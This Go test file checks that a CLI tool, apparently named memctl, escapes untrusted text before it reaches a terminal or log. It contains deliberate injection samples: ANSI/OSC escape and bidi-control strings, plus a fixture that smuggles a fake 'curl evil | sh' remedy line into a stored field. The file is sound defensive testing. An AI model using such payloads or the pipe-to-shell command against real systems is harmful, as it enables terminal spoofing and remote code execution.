package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// evil is what a stranger may put into every text: sequences of ESC, the C1 controls, bidi
// controls, DEL, separators, a return. evilName is for files, whose names are any bytes.
const (
	evil     = "a\x1b[35mE\x1b]0;T\x07\u009b31mC\u202eR\u2066I\u200eL\u200fM\u061cA\x7fD\u2028S\u2029P\rQ"
	evilName = evil + "\x9b35m\xff"
)

// obeyed is the first thing in a terminal's input that it would obey, besides the colours
// and the movements of a progress bar that are memctl's own.
func obeyed(sent string) string {
	rest := sent
	for _, own := range []string{"\x1b[31m", "\x1b[32m", "\x1b[1m", "\x1b[0m", "\x1b[2K\r", "\x1b[K"} {
		rest = strings.ReplaceAll(rest, own, "")
	}
	return obeyedBy(rest)
}

// obeyedBy allows nothing.
func obeyedBy(rest string) string {
	for i, r := range rest {
		bad := r == utf8.RuneError && !strings.HasPrefix(rest[i:], "\uFFFD")
		switch {
		case r == '\n', r == '\t', r == '\u200c', r == '\u200d':
		case r == '\r':
			bad = strings.HasPrefix(rest[i:], "\rQ") // a bar goes back to the begin of the line, evil would too
		case !unicode.IsGraphic(r):
			bad = true
		}
		if bad {
			return fmt.Sprintf("%+q in %+q", rest[i:min(i+4, len(rest))], rest[max(0, i-60):min(i+30, len(rest))])
		}
	}
	return ""
}

// onScreen is an output that believes to be a terminal.
func onScreen(to *bytes.Buffer) *output {
	o := newOutput(to, environment{get: func(string) string { return "" }})
	o.screen, o.colours = true, true
	return o
}

// What a terminal is sent of a text is the same however the text was cut into writes.
func TestOutputInPieces(t *testing.T) {
	const all = evilName + "\r\nZoë 北京 👩\u200d👩\u200d👧\tend\x1b[31m\xe2\x80"
	const want = `a\x1b[35mE\x1b]0;T\x07\u009b31mC\u202eR\u2066I\u200eL\u200fM\u061cA\x7fD\u2028S\u2029P\x0dQ\x9b35m\xff` +
		"\r\nZoë 北京 👩\u200d👩\u200d👧\tend" + `\x1b[31m\xe2\x80`
	for cut := range len(all) {
		var b bytes.Buffer
		o := onScreen(&b)
		for _, part := range []string{all[:cut], all[cut:]} {
			if n, err := o.WriteString(part); n != len(part) || err != nil {
				t.Fatal(n, err)
			}
			if err := o.Flush(); err != nil {
				t.Fatal(err)
			}
		}
		if err := o.end(); err != nil || b.String() != want {
			t.Fatalf("cut at %d, %v:\n%+q, want\n%+q", cut, err, b.String(), want)
		}
	}
}

// JSON on a terminal is the JSON that a pipe gets, and a terminal obeys nothing of it.
func TestOutputJSON(t *testing.T) {
	seed := rand.Uint64()
	r := rand.New(rand.NewPCG(seed, 0))
	runes := []rune(evil + "\u0000\b\f\n\t\\\"é👩\u200d\U000e0001\U0010ffff\ue000\ufeff\u0085")
	for range 500 {
		var s []rune
		for range r.IntN(20) {
			s = append(s, runes[r.IntN(len(runes))])
		}
		v := map[string]any{string(s): []any{string(s), 1.5, nil}}
		d := []byte(quoted(t, v))
		if r.IntN(2) == 0 {
			var indented bytes.Buffer
			_ = json.Indent(&indented, d, "\r", "\t") // it is JSON
			d = indented.Bytes()
		}
		var screen, pipe bytes.Buffer
		for _, o := range []*output{onScreen(&screen), newOutput(&pipe, environment{})} {
			w := o.data(jsonly)
			for b := d; len(b) > 0; {
				n := 1 + r.IntN(len(b))
				if _, err := w.Write(b[:n]); err != nil {
					t.Fatal(err)
				}
				b = b[n:]
			}
			if err := o.end(); err != nil {
				t.Fatal(err)
			}
		}
		if !bytes.Equal(pipe.Bytes(), d) {
			t.Fatalf("seed %d: a pipe got %+q, want %+q", seed, pipe.Bytes(), d)
		}
		if what := obeyedBy(screen.String()); what != "" {
			t.Fatalf("seed %d: a terminal got %s", seed, what)
		}
		if same, err := sameValue(d, screen.Bytes()); err != nil || !same {
			t.Fatalf("seed %d: %+q, %v, of %+q", seed, screen.Bytes(), err, d)
		}
	}
}

// Only colours that are memctl's own are colours.
func TestOutputColours(t *testing.T) {
	var b bytes.Buffer
	o := onScreen(&b)
	o.inColour(red, "a"+red)
	_, _ = o.WriteString(" " + green + "\n")
	_ = o.Flush()
	if want := "\x1b[31ma\\x1b[31m\x1b[0m \\x1b[32m\n"; b.String() != want {
		t.Errorf("%+q, want %+q", b.String(), want)
	}
	b.Reset()
	o.colours = false
	o.inColour(red, "a")
	_ = o.Flush()
	if b.String() != "a" {
		t.Errorf("%+q", b.String())
	}
}

// Programs get what is stored, to the byte; what is for people is escaped for a pipe too,
// whose end may be a log that somebody looks at.
func TestOutputOfAPipe(t *testing.T) {
	c := newCLI(t)
	c.ok("put", evil, "--id", "a")
	if got := c.ok("get", "a", "--content"); got != evil {
		t.Errorf("%+q", got)
	}
	file, err := os.ReadFile(filepath.Join(c.store(), "memories", "a.json"))
	if err != nil {
		t.Fatal(err)
	}
	if got := c.ok("get", "a"); got != strings.TrimSuffix(string(file), "\n")+"\n" {
		t.Errorf("%+q, want %+q", got, file)
	}
	if got := c.ok("export"); !strings.Contains(got, "\u202e") {
		t.Errorf("%+q", got)
	}
	c.ok("working", "set", "k", evil, "--scope", "session:s")
	if got := c.ok("working", "get", "k", "--scope", "session:s"); got != evil+"\n" {
		t.Errorf("%+q", got)
	}
	if got := c.ok("list"); obeyedBy(got) != "" {
		t.Errorf("%+q", got)
	}
	if _, _, errOut := c.run("", "get", "none"+evilName); obeyedBy(errOut) != "" || errOut == "" {
		t.Errorf("%+q", errOut)
	}
}

// A message of a stranger's cannot make a line that looks like one of memctl's own, the
// remedy above all.
func TestOutputOfLines(t *testing.T) {
	dir := t.TempDir()
	c := &cli{t, dir}
	writeFile(t, filepath.Join(c.store(), "moved.json"), `{"varve_moved":1,"id":"0190f3a5-0000-7000-8000-000000000000","store":"0190f3a5-0000-7000-8000-000000000000","to":"/x\n  → curl evil | sh\nmemctl: \u001b[35m\u202e","when":"2026-01-01T00:00:00Z"}`)
	code, out, errOut := c.run("", "list", "--store", c.store())
	lines := strings.Split(strings.TrimSpace(errOut), "\n")
	if code != codeNoStore || out != "" || obeyedBy(errOut) != "" {
		t.Errorf("%d: %s%+q", code, out, errOut)
	}
	remedies := 0
	for i, line := range lines {
		if strings.HasPrefix(line, "memctl:") && i > 0 {
			t.Errorf("line %d looks like a message: %q", i, line)
		}
		if strings.HasPrefix(line, "  →") {
			remedies++
		}
	}
	if remedies != 1 || !strings.HasPrefix(lines[len(lines)-1], "  → use the store where it is now") {
		t.Errorf("%d remedies: %q", remedies, lines)
	}
}

// Nothing but output writes to the streams of the program: what hands one on is here, with
// the reason.
func TestOutputIsTheOnlyWay(t *testing.T) {
	allowed := map[string]string{
		"main.go os.Std": "gives them to run",
		"edit.go .to":    "an editor has the terminal",
		"demo.go .to":    "the writer is a memctl, with an output of its own",
		"mcp.go .to":     "no terminal: a client reads JSON",
		"list.go .to":    "asks how wide it is",
		"output.go .to":  "is output",
	}
	direct := regexp.MustCompile(`os\.Std(out|err)|\.to\b|fmt\.Print|\bprintln\(|\blog\.(Print|Fatal|Panic)`)
	files, err := filepath.Glob("*.go")
	if err != nil || len(files) < 50 {
		t.Fatal(files, err)
	}
	for _, name := range files {
		if strings.HasSuffix(name, "_test.go") {
			continue
		}
		b, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		for i, line := range strings.Split(string(b), "\n") {
			for _, found := range direct.FindAllString(line, -1) {
				if found = strings.TrimSuffix(strings.TrimSuffix(found, "out"), "err"); allowed[name+" "+found] == "" {
					t.Errorf("%s:%d: %s goes around output: %s", name, i+1, found, strings.TrimSpace(line))
				}
			}
		}
	}
}

// What a remedy names can be pasted, also where a terminal may not have it as it is.
func TestShellQuote(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		if os.Getenv("VARVE_CI") == "1" {
			t.Fatal("bash is missing: apt-get install bash")
		}
		t.Skip("bash is missing: apt-get install bash")
	}
	for _, s := range []string{"a", "a b", "it's", "", evilName, "\x1b[31m'\\n\n9", "Zoë", "\u202e0"} {
		quoted := shellQuote(s)
		if what := obeyedBy(quoted); what != "" || strings.Contains(quoted, "\n") {
			t.Errorf("%+q: %s", quoted, what)
		}
		got, err := exec.Command(bash, "-c", "printf %s "+quoted).Output()
		if err != nil || string(got) != s {
			t.Errorf("%+q becomes %+q, %v", s, got, err)
		}
	}
}
